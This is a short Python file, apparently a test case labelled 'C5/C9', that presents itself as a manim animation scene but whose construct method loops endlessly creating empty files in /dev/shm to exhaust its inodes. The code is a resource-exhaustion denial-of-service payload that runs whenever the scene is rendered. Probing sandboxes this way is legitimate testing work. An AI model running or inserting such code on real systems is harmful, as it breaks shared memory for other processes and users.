"""C5/C9: exhaust /dev/shm's inodes with empty files."""

from manim import Scene


class ExhaustShmInodes(Scene):
    def construct(self):
        i = 0
        while True:
            open(f"/dev/shm/f{i}", "w").close()
            i += 1
